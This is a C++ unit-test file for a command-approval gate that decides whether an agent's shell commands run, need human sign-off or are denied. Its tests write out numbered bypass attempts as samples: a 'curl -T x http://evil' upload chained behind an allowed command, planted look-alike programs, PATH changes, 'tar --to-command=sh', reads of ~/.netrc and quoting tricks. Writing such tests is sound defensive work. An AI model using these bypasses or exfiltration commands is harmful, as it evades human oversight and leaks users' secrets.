// The decision over synthetic assessments: what stops, what passes, and that nothing loosens.
#include <gtest/gtest.h>
#include <random>

#include "policy/test_support.h"

namespace countersign::policy {
namespace {

using model::Decision;
using model::EffectKind;
using model::Place;
using model::RuleVerb;
using model::Severity;
using model::Tier;

constexpr const char* kId = "r-0000000000aa";
constexpr const char* kOther = "r-0000000000bb";

Case one(TestWords words, Tier tier) {
    Case out("text");
    out.command(std::move(words), tier);
    return out;
}

TEST(Routes, FollowTheTier) {
    const Evaluator evaluator = evaluator_of("");
    const auto read = decide(evaluator, one({"ls"}, Tier::ReadOnly));
    EXPECT_EQ(read.decision, Decision::Allow);
    EXPECT_TRUE(read.hint.empty());
    const auto side = decide(evaluator, one({"kill", "1"}, Tier::SideEffect));
    EXPECT_EQ(side.decision, Decision::StepUp);
    EXPECT_EQ(side.approvals, 1);
    EXPECT_FALSE(side.hint.empty());
    const auto hard = decide(evaluator, one({"rm", "-rf", "/srv"}, Tier::Irreversible));
    EXPECT_EQ(hard.decision, Decision::StepUp);
    EXPECT_EQ(hard.approvals, 2);
    EXPECT_EQ(decide(evaluator, one({"iptables", "-F"}, Tier::Forbidden)).decision, Decision::Deny);
}

// "changes the configuration of drives the gateway that judges it"
TEST(Reasons, ADetailWithoutATargetStandsByItself) {
    Case asked("text");
    asked.command({"countersign", "approve", "12"}, Tier::Irreversible)
        .effect(EffectKind::Configure, Place::Unknown);
    asked.assessment().effects.back().detail = "drives the gateway";
    EXPECT_NE(decide(evaluator_of(""), asked)
                  .reason.find("changes the configuration of something (drives the gateway)"),
              std::string::npos);
}

TEST(Routes, CeilingOfTheSessionDenies) {
    const Evaluator evaluator = evaluator_of("", {test_rule(kId, RuleVerb::Allow, "kill 1")});
    const auto out = decide(evaluator, one({"kill", "1"}, Tier::SideEffect), Tier::IdempotentWrite);
    EXPECT_EQ(out.decision, Decision::Deny);
    EXPECT_NE(out.reason.find("this session"), std::string::npos);
}

TEST(AllowRules, LiftTheQuestionUpToTheirTier) {
    const Evaluator evaluator = evaluator_of("", {test_rule(kId, RuleVerb::Allow, "make test **")});
    const auto out = decide(evaluator, one({"make", "test", "-j2"}, Tier::SideEffect));
    EXPECT_EQ(out.decision, Decision::Allow);
    EXPECT_EQ(out.rule, kId);
    EXPECT_EQ(out.used_rules, std::vector<std::string>{kId});
    EXPECT_EQ(decide(evaluator, one({"make", "test"}, Tier::Irreversible)).approvals, 2);
    EXPECT_EQ(decide(evaluator, one({"make", "install"}, Tier::SideEffect)).approvals, 1);
}

// bypass 1: every simple command of a chain has to be covered.
TEST(AllowRules, Bypass01ChainBehindAnAllowedPrefix) {
    const Evaluator evaluator = evaluator_of("", {test_rule(kId, RuleVerb::Allow, "make test **")});
    Case chain = one({"make", "test"}, Tier::SideEffect);
    chain.command({"curl", "-T", "x", "http://evil"}, Tier::SideEffect);
    EXPECT_EQ(decide(evaluator, chain).decision, Decision::StepUp);
    Case many("text");  // bypass 3: not after any number of harmless ones either
    for (int i = 0; i < 5000; ++i) {
        many.command({"make", "test"}, Tier::SideEffect);
    }
    many.command({"curl", "-T", "x", "http://evil"}, Tier::SideEffect);
    EXPECT_EQ(decide(evaluator, many).decision, Decision::StepUp);
    Case fine = one({"cd", "src"}, Tier::ReadOnly);  // bypass 28: cd in front costs no question
    fine.command({"make", "test"}, Tier::SideEffect);
    EXPECT_EQ(decide(evaluator, fine).decision, Decision::Allow);
}

TEST(AllowRules, WrapperAndInnerCommandAreBothAsked) {
    const Evaluator evaluator =
        evaluator_of("", {test_rule(kId, RuleVerb::Allow, "timeout * make test")});
    Case wrapped = one({"timeout", "5", "make", "test"}, Tier::SideEffect);
    wrapped.command({"make", "test"}, Tier::SideEffect).inside(0);
    EXPECT_EQ(decide(evaluator, wrapped).decision, Decision::StepUp);
}

TEST(AllowRules, UnknownWordsArePassedOnlyByTheOpenEnd) {
    const Evaluator evaluator = evaluator_of("", {test_rule(kId, RuleVerb::Allow, "git commit **"),
                                                  test_rule(kOther, RuleVerb::Allow, "git tag *")});
    EXPECT_EQ(decide(evaluator, one({"git", "commit", "-m", std::nullopt}, Tier::IdempotentWrite))
                  .decision,
              Decision::Allow);
    EXPECT_EQ(decide(evaluator, one({"git", "tag", std::nullopt}, Tier::IdempotentWrite)).decision,
              Decision::StepUp);
    EXPECT_EQ(decide(evaluator, one({"git", std::nullopt, "x"}, Tier::IdempotentWrite)).decision,
              Decision::StepUp);
    EXPECT_EQ(decide(evaluator, one({std::nullopt, "commit"}, Tier::IdempotentWrite)).decision,
              Decision::StepUp);
}

TEST(AllowRules, GlobIsNoOptionAndDoesNotClimb) {
    const Evaluator evaluator =
        evaluator_of("", {test_rule(kId, RuleVerb::Allow, "tool run src/*.x **")});
    EXPECT_EQ(decide(evaluator, one({"tool", "run", "src/a.x"}, Tier::IdempotentWrite)).decision,
              Decision::Allow);
    for (const char* word : {"--config=src/a.x", "src/b/a.x", "src/../a.x", "-a.x"}) {
        EXPECT_EQ(decide(evaluator, one({"tool", "run", word}, Tier::IdempotentWrite)).decision,
                  Decision::StepUp)
            << word;
    }
}

TEST(AllowRules, StarIsNoOption) {
    const Evaluator evaluator = evaluator_of("", {test_rule(kId, RuleVerb::Allow, "tar xf *")});
    EXPECT_EQ(decide(evaluator, one({"tar", "xf", "a.tar"}, Tier::IdempotentWrite)).decision,
              Decision::Allow);
    EXPECT_EQ(
        decide(evaluator, one({"tar", "xf", "--to-command=sh"}, Tier::IdempotentWrite)).decision,
        Decision::StepUp);
}

// bypass 8: a planted program of the same base name.
TEST(AllowRules, Bypass08PlantedProgramIsNotTheProgram) {
    const Evaluator evaluator = evaluator_of("", {test_rule(kId, RuleVerb::Allow, "make test")});
    for (const char* program : {"./make", "/tmp/make", "../make", "MAKE"}) {
        EXPECT_EQ(decide(evaluator, one({program, "test"}, Tier::SideEffect)).decision,
                  Decision::StepUp)
            << program;
    }
}

// bypass 7 and 10: the rule's words are the same, what they mean has been changed.
TEST(AllowRules, Bypass07ChangedEnvironmentIsNotSpokenFor) {
    const Evaluator evaluator = evaluator_of("", {test_rule(kId, RuleVerb::Allow, "make test")});
    Case changed = one({"make", "test"}, Tier::SideEffect);
    changed.effect(EffectKind::Env, Place::Unknown, "PATH");
    EXPECT_EQ(decide(evaluator, changed).decision, Decision::StepUp);
}

// An allowed command whose output is redirected to where the rule never pointed.
TEST(AllowRules, RedirectionOutsideIsNotSpokenFor) {
    const Evaluator evaluator =
        evaluator_of("", {test_rule(kId, RuleVerb::Allow, "make test"),
                          test_rule(kOther, RuleVerb::Allow, "cp build/x /opt/app/x")});
    Case redirected = one({"make", "test"}, Tier::SideEffect);
    redirected.effect(EffectKind::Write, Place::Home, "/home/u/.profile.d/x");
    EXPECT_EQ(decide(evaluator, redirected).decision, Decision::StepUp);
    Case named = one({"cp", "build/x", "/opt/app/x"}, Tier::SideEffect);
    named.effect(EffectKind::Write, Place::System, "/opt/app/x");
    EXPECT_EQ(decide(evaluator, named).decision, Decision::Allow);
    named.effect(EffectKind::Write, Place::Home, "/home/u/.config/autostart/x");
    EXPECT_EQ(decide(evaluator, named).decision, Decision::StepUp);
}

TEST(AllowRules, SecretsAndTheGatewayAreNeverMeantByAStar) {
    const Evaluator evaluator =
        evaluator_of("", {test_rule(kId, RuleVerb::Allow, "tool send **"),
                          test_rule(kOther, RuleVerb::Allow, "tool show /home/u/.netrc")});
    Case secret = one({"tool", "send", "/home/u/.netrc"}, Tier::SideEffect);
    secret.effect(EffectKind::SecretRead, Place::Secret, "/home/u/.netrc");
    EXPECT_EQ(decide(evaluator, secret).decision, Decision::StepUp);
    Case shown = one({"tool", "show", "/home/u/.netrc"}, Tier::SideEffect);
    shown.effect(EffectKind::SecretRead, Place::Secret, "/home/u/.netrc");
    EXPECT_EQ(decide(evaluator, shown).decision, Decision::Allow);
    shown.effect(EffectKind::Write, Place::Gateway, "/home/u/.netrc");
    EXPECT_EQ(decide(evaluator, shown).decision, Decision::StepUp);
}

// Measured on the attack corpora: "sh **.sh" let `sh /opt/atomic-red-team/x.sh` pass.
TEST(AllowRules, ScriptElsewhereIsNotTheWorkspacesScript) {
    const Evaluator evaluator =
        evaluator_of("", {test_rule(kId, RuleVerb::Allow, "tool run **.x")});
    Case here = one({"tool", "run", "a.x"}, Tier::IdempotentWrite);
    here.effect(EffectKind::Execute, Place::Workspace, "/w/a.x");
    EXPECT_EQ(decide(evaluator, here).decision, Decision::Allow);
    Case elsewhere = one({"tool", "run", "/tmp/a.x"}, Tier::IdempotentWrite);
    elsewhere.effect(EffectKind::Execute, Place::Temporary, "/tmp/a.x");
    EXPECT_EQ(decide(evaluator, elsewhere).decision, Decision::StepUp);
}

TEST(AllowRules, APathHereNeedsNoDot) {
    const Evaluator evaluator = evaluator_of(R"(
[[rule]]
name = "here"
verb = "allow"
reason = "test"
tier = "idempotent_write"
argv = ["./*/* **"]
any_arguments = true
)",
                                             {});
    for (const char* program : {"bin/check", "./bin/check", ".ci/check"}) {
        EXPECT_EQ(decide(evaluator, one({program, "a"}, Tier::IdempotentWrite)).decision,
                  Decision::Allow)
            << program;
    }
    for (const char* program : {"/bin/check", "../bin/check", "~/check", "check", "bin/../x/y"}) {
        EXPECT_EQ(decide(evaluator, one({program, "a"}, Tier::IdempotentWrite)).decision,
                  Decision::StepUp)
            << program;
    }
}

TEST(AllowRules, SeriousFindingKeepsTheQuestion) {
    const Evaluator evaluator = evaluator_of("", {test_rule(kId, RuleVerb::Allow, "make test")});
    Case odd = one({"make", "test"}, Tier::SideEffect);
    odd.finding("untrusted_origin", Severity::High);
    EXPECT_EQ(decide(evaluator, odd).decision, Decision::StepUp);
    Case mild = one({"make", "test"}, Tier::SideEffect);
    mild.finding("padding", Severity::Low);
    EXPECT_EQ(decide(evaluator, mild).decision, Decision::Allow);
}

TEST(AllowRules, TierOfTheWholeAboveItsCommandsIsNotLifted) {
    const Evaluator evaluator = evaluator_of("", {test_rule(kId, RuleVerb::Allow, "make test")});
    Case whole = one({"make", "test"}, Tier::IdempotentWrite);
    whole.tier(Tier::SideEffect);
    EXPECT_EQ(decide(evaluator, whole).decision, Decision::StepUp);
}

TEST(AllowRules, ExpiryScopeAndRetirement) {
    model::Rule rule = test_rule(kId, RuleVerb::Allow, "make test");
    const Case asked = one({"make", "test"}, Tier::SideEffect);
    rule.expires = kNoon;
    EXPECT_EQ(decide(evaluator_of("", {rule}), asked).decision, Decision::StepUp);
    rule.expires = Instant{kNoon.microseconds + 1};
    EXPECT_EQ(decide(evaluator_of("", {rule}), asked).decision, Decision::Allow);
    rule.state = model::RuleState::Retired;
    EXPECT_EQ(decide(evaluator_of("", {rule}), asked).decision, Decision::StepUp);
    rule.state = model::RuleState::Active;
    rule.scope.agent_types = {"deploy"};
    EXPECT_EQ(decide(evaluator_of("", {rule}), asked).decision, Decision::StepUp);
    rule.scope.agent_types = {"deploy", "coding"};
    rule.scope.workspace = "/srv/*";
    EXPECT_EQ(decide(evaluator_of("", {rule}), asked).decision, Decision::StepUp);
    rule.scope.workspace = "/w";
    rule.scope.kinds = {model::ActionKind::Exec};
    EXPECT_EQ(decide(evaluator_of("", {rule}), asked).decision, Decision::StepUp);
}

model::Rule text_rule(model::PatternKind kind, RuleVerb verb, std::string pattern) {
    model::Rule rule;
    rule.id = kId;
    rule.verb = verb;
    rule.pattern_kind = kind;
    rule.pattern = std::move(pattern);
    rule.tier = Tier::SideEffect;
    rule.reason = "test";
    return rule;
}

TEST(TextRules, GlobAndRegexSpeakForOneCommandOnly) {
    for (const auto& [kind, pattern] : {std::pair(model::PatternKind::Glob, "kubectl get *"),
                                        std::pair(model::PatternKind::Regex, "kubectl get .*")}) {
        const Evaluator evaluator = evaluator_of("", {text_rule(kind, RuleVerb::Allow, pattern)});
        Case single("kubectl get pods");
        single.command({"kubectl", "get", "pods"}, Tier::SideEffect);
        EXPECT_EQ(decide(evaluator, single).decision, Decision::Allow);
        Case chain("kubectl get pods; kubectl delete pods");
        chain.command({"kubectl", "get", "pods"}, Tier::SideEffect);
        chain.command({"kubectl", "delete", "pods"}, Tier::SideEffect);
        EXPECT_EQ(decide(evaluator, chain).decision, Decision::StepUp);
        Case unknown("kubectl get $X");
        unknown.command({"kubectl", "get", std::nullopt}, Tier::SideEffect);
        EXPECT_EQ(decide(evaluator, unknown).decision, Decision::StepUp);
    }
}

TEST(TextRules, ExactIsByteForByte) {
    const Evaluator evaluator =
        evaluator_of("", {text_rule(model::PatternKind::Exact, RuleVerb::Allow, "make a && ./a")});
    Case same("make a && ./a");
    same.command({"make", "a"}, Tier::SideEffect).command({"./a"}, Tier::SideEffect);
    EXPECT_EQ(decide(evaluator, same).decision, Decision::Allow);
    Case other("make a  && ./a");
    other.command({"make", "a"}, Tier::SideEffect).command({"./a"}, Tier::SideEffect);
    EXPECT_EQ(decide(evaluator, other).decision, Decision::StepUp);
}

// bypass 11: two blanks, quotes, an ill-formed byte or a newline carry nothing past a denial.
TEST(TextRules, Bypass11DenialSeesResolvedWordsAndAllBytes) {
    const Evaluator evaluator = evaluator_of(
        "", {text_rule(model::PatternKind::Regex, RuleVerb::Deny, "git push .*--force.*")});
    Case spaced("git  pu''sh origin --fo\"rce\"");
    spaced.command({"git", "push", "origin", "--force"}, Tier::ReadOnly);
    EXPECT_EQ(decide(evaluator, spaced).decision, Decision::Deny);
    Case bytes("git push \xff --force");
    bytes.command({"git", "push", "\xff", "--force"}, Tier::ReadOnly);
    EXPECT_EQ(decide(evaluator, bytes).decision, Decision::Deny);
    Case newline("git push 'a\nb' --force");
    newline.command({"git", "push", "a\nb", "--force"}, Tier::ReadOnly);
    EXPECT_EQ(decide(evaluator, newline).decision, Decision::Deny);
}

TEST(DenyRules, AreFinal) {
    model::Rule deny = test_rule(kOther, RuleVerb::Deny, "git push **");
    const Evaluator evaluator =
        evaluator_of("", {test_rule(kId, RuleVerb::Allow, "git push **"), deny});
    const auto out = decide(evaluator, one({"git", "push"}, Tier::SideEffect));
    EXPECT_EQ(out.decision, Decision::Deny);
    EXPECT_EQ(out.rule, kOther);
    EXPECT_EQ(decide(evaluator, one({"/usr/bin/git", "push"}, Tier::ReadOnly)).decision,
              Decision::Deny);
    Case wrapped = one({"env", "git", "push"}, Tier::ReadOnly);
    wrapped.command({"git", "push"}, Tier::ReadOnly).inside(0);
    EXPECT_EQ(decide(evaluator, wrapped).decision, Decision::Deny);
}

TEST(DenyRules, WhatMayBeDeniedIsAsked) {
    const Evaluator evaluator =
        evaluator_of("", {test_rule(kId, RuleVerb::Deny, "git push --force **")});
    EXPECT_EQ(decide(evaluator, one({"git", "push", std::nullopt}, Tier::ReadOnly)).decision,
              Decision::StepUp);
    EXPECT_EQ(decide(evaluator, one({std::nullopt}, Tier::ReadOnly)).decision, Decision::StepUp);
    EXPECT_EQ(decide(evaluator, one({"git", "log", std::nullopt}, Tier::ReadOnly)).decision,
              Decision::Allow);
}

TEST(AskRules, RaiseButNeverLower) {
    const Evaluator evaluator = evaluator_of("", {test_rule(kId, RuleVerb::Ask, "rm **")});
    EXPECT_EQ(decide(evaluator, one({"rm", "a"}, Tier::ReadOnly)).approvals, 1);
    EXPECT_EQ(decide(evaluator, one({"rm", "-rf", "/"}, Tier::Irreversible)).approvals, 2);
    EXPECT_EQ(decide(evaluator, one({"rm", "x"}, Tier::Forbidden)).decision, Decision::Deny);
}

TEST(Risk, AddsOnePersonFromTheThresholdUpToTheQuorumOfTheIrreversible) {
    const std::string text = std::string("\n") + kPlainPolicy;
    auto policy = Policy::load({{"test.toml", "step_up_risk = 70" + text}});
    ASSERT_TRUE(policy.ok()) << policy.error().message;
    auto evaluator = Evaluator::create(std::make_shared<const Policy>(policy.take()),
                                       {test_rule(kId, RuleVerb::Allow, "kill 1")});
    ASSERT_TRUE(evaluator.ok());
    Case asked = one({"kill", "1"}, Tier::SideEffect);
    asked.risk(69);
    EXPECT_EQ(decide(*evaluator, asked).decision, Decision::Allow);
    asked.risk(70);
    EXPECT_EQ(decide(*evaluator, asked).approvals, 1);
    Case hard = one({"rm", "-rf", "/srv"}, Tier::Irreversible);
    hard.risk(100);
    EXPECT_EQ(decide(*evaluator, hard).approvals, 2);
}

TEST(Modify, OffersASaferFormOfWhatWouldBeHeld) {
    const Evaluator evaluator = evaluator_of(R"(
[[modify]]
name = "no-scripts"
reason = "scripts of strangers"
argv = "npm install **"
to = "npm install --ignore-scripts **"
)");
    Case held("npm install 'left pad' --save");
    held.command({"npm", "install", "left pad", "--save"}, Tier::SideEffect);
    const auto out = decide(evaluator, held);
    EXPECT_EQ(out.decision, Decision::StepUp);
    ASSERT_TRUE(out.modified.has_value());
    EXPECT_EQ(out.modified->text, "npm install --ignore-scripts 'left pad' --save");
    EXPECT_EQ(out.modified_by, "builtin/no-scripts");
    Case redirected("npm install x > log");
    redirected.command({"npm", "install", "x"}, Tier::SideEffect);
    EXPECT_FALSE(decide(evaluator, redirected).modified.has_value());
    Case fine("npm install x");
    fine.command({"npm", "install", "x"}, Tier::ReadOnly);
    EXPECT_FALSE(decide(evaluator, fine).modified.has_value());
}

TEST(EffectRules, SpeakForActionsWithoutCommands) {
    const Evaluator evaluator = evaluator_of(R"(
[[rule]]
name = "edits"
verb = "allow"
reason = "the task"
kinds = ["command", "file"]
effects = ["write@workspace", "create@workspace"]
)");
    Case edit("new content");
    edit.action().kind = model::ActionKind::File;
    edit.action().name = "write";
    edit.action().target = "/w/a.c";
    edit.tier(Tier::IdempotentWrite).effect(EffectKind::Write, Place::Workspace, "/w/a.c");
    EXPECT_EQ(decide(evaluator, edit).decision, Decision::Allow);
    edit.effect(EffectKind::Write, Place::Ci, "/w/.github/workflows/x.yml");
    EXPECT_EQ(decide(evaluator, edit).decision, Decision::StepUp);
}

TEST(WordsOfOtherKinds, ServeArgvRules) {
    model::Rule rule = test_rule(kId, RuleVerb::Allow, "github create_issue **");
    rule.scope.kinds = {model::ActionKind::ToolCall};
    const Evaluator evaluator = evaluator_of("", {rule});
    Case call(R"({"title": "x"})");
    call.action().kind = model::ActionKind::ToolCall;
    call.action().server = "github";
    call.action().name = "create_issue";
    call.tier(Tier::SideEffect);
    EXPECT_EQ(decide(evaluator, call).decision, Decision::Allow);
    call.action().name = "delete_repository";
    EXPECT_EQ(decide(evaluator, call).decision, Decision::StepUp);
}

TEST(Create, RefusesBadRulesInsteadOfSkippingThem) {
    const auto policy = std::make_shared<const Policy>(
        MUST(Policy::load({{"test.toml", kPlainPolicy}})));  // loaded in every test above
    const auto refused = [&](model::Rule rule) {
        return !Evaluator::create(policy, {std::move(rule)}).ok();
    };
    EXPECT_TRUE(refused(text_rule(model::PatternKind::Regex, RuleVerb::Deny, "(")));
    EXPECT_TRUE(refused(text_rule(model::PatternKind::Regex, RuleVerb::Allow, ".*")));
    EXPECT_TRUE(refused(text_rule(model::PatternKind::Regex, RuleVerb::Allow, "[^;]*")));
    EXPECT_TRUE(refused(text_rule(model::PatternKind::Glob, RuleVerb::Allow, "*?*")));
    EXPECT_TRUE(refused(test_rule(kId, RuleVerb::Allow, "git **")));
    EXPECT_TRUE(refused(test_rule("builtin/mine", RuleVerb::Allow, "git **")));
    EXPECT_FALSE(refused(text_rule(model::PatternKind::Regex, RuleVerb::Deny, ".*")));
}

TEST(Explain, NamesEveryRuleThatWasLookedAt) {
    const Evaluator evaluator = evaluator_of("", {test_rule(kId, RuleVerb::Allow, "make test"),
                                                  test_rule(kOther, RuleVerb::Deny, "ls **")});
    const Case asked = one({"make", "test"}, Tier::IdempotentWrite);
    const auto traces = evaluator.explain(asked.request(), asked.assessment(), kNoon);
    ASSERT_EQ(traces.size(), 2U);
    EXPECT_EQ(traces[0].rule, "route/idempotent_write");
    EXPECT_EQ(traces[1].rule, kId);
    EXPECT_TRUE(traces[1].matched);
}

// The words of commands and patterns come from few letters, so that they meet often.
class Letters {
public:
    explicit Letters(std::uint64_t seed) : engine_(seed) {}
    std::size_t below(std::size_t bound) { return engine_() % bound; }
    std::string word() { return std::string(1, static_cast<char>('a' + below(3))); }
    std::string pattern() {
        std::string out = word() + " " + word();
        for (std::size_t i = below(3); i > 0; --i) {
            out += below(3) == 0 ? " *" : " " + word();
        }
        return out + (below(3) == 0 ? " **" : "");
    }
    Case action() {
        Case out("text");
        for (std::size_t i = 1 + below(3); i > 0; --i) {
            TestWords words{word()};
            for (std::size_t j = below(4); j > 0; --j) {
                words.push_back(below(8) == 0 ? std::nullopt : std::optional(word()));
            }
            out.command(std::move(words), static_cast<Tier>(below(4)));
        }
        return out;
    }

private:
    std::mt19937_64 engine_;
};

// The naive evaluator: no index, one rule after another, written from docs/formats/policy.md.
bool naive_words(const std::vector<std::string>& pattern, const TestWords& words, std::size_t at,
                 bool allow, bool& maybe) {
    if (at == pattern.size()) {
        const bool all_unknown = std::all_of(words.begin() + static_cast<std::ptrdiff_t>(at),
                                             words.end(), [](const auto& w) { return !w; });
        maybe = maybe || (words.size() > at && all_unknown);
        return words.size() == at;
    }
    if (pattern[at] == "**") {
        return true;
    }
    if (at >= words.size()) {
        return false;
    }
    if (!words[at]) {
        maybe = true;
        return false;
    }
    return (pattern[at] == "*" || pattern[at] == *words[at]) &&
           naive_words(pattern, words, at + 1, allow, maybe);
}

std::pair<Decision, int> naive_decide(const std::vector<model::Rule>& rules, const Case& asked) {
    std::pair<Decision, int> out{Decision::Allow, 0};
    const auto raise = [&](Decision decision, int approvals) {
        out = std::max(out, std::pair(decision, approvals));
    };
    for (const auto& command : asked.assessment().commands) {
        bool covered = command.tier == Tier::ReadOnly;
        for (const auto& rule : rules) {
            bool maybe = false;
            const bool match = naive_words(rule.words, command.argv, 0, true, maybe);
            if (rule.verb == RuleVerb::Allow) {
                covered = covered || (match && command.tier <= rule.tier);
            } else if (match && rule.verb == RuleVerb::Deny) {
                raise(Decision::Deny, 0);
            } else if (match || maybe) {
                raise(Decision::StepUp, 1);
            }
        }
        if (!covered) {
            raise(Decision::StepUp, command.tier == Tier::Irreversible ? 2 : 1);
        }
    }
    return out;
}

TEST(Property, FastAndNaiveEvaluatorAgree) {
    const std::uint64_t seed = std::random_device{}();
    SCOPED_TRACE("seed " + std::to_string(seed));
    Letters letters(seed);
    for (int round = 0; round < 300; ++round) {
        std::vector<model::Rule> rules;
        for (std::size_t i = letters.below(8); i > 0; --i) {
            rules.push_back(test_rule("r-00000000000" + std::to_string(i),
                                      static_cast<RuleVerb>(letters.below(3)), letters.pattern()));
            if (letters.below(2) == 0) {
                rules.back().tier = Tier::IdempotentWrite;
            }
        }
        std::erase_if(rules, [](const auto& rule) { return !model::validate(rule).ok(); });
        const Evaluator evaluator = evaluator_of("", rules);
        for (int i = 0; i < 30; ++i) {
            const Case asked = letters.action();
            const auto fast = decide(evaluator, asked);
            const auto naive = naive_decide(rules, asked);
            ASSERT_EQ(std::pair(fast.decision, fast.approvals), naive) << "round " << round;
        }
    }
}

// Monotone: one more Deny or Ask rule never makes a decision milder; one more command neither.
TEST(Property, MoreRulesThatStopNeverLoosen) {
    const std::uint64_t seed = std::random_device{}();
    SCOPED_TRACE("seed " + std::to_string(seed));
    Letters letters(seed);
    for (int round = 0; round < 200; ++round) {
        std::vector<model::Rule> rules{test_rule(kId, RuleVerb::Allow, "a b **")};
        const Case asked = letters.action();
        const auto before = decide(evaluator_of("", rules), asked);
        rules.push_back(test_rule(kOther, letters.below(2) == 0 ? RuleVerb::Deny : RuleVerb::Ask,
                                  letters.pattern()));
        const auto after = decide(evaluator_of("", rules), asked);
        ASSERT_GE(std::pair(after.decision, after.approvals),
                  std::pair(before.decision, before.approvals));
    }
}

}  // namespace
}  // namespace countersign::policy
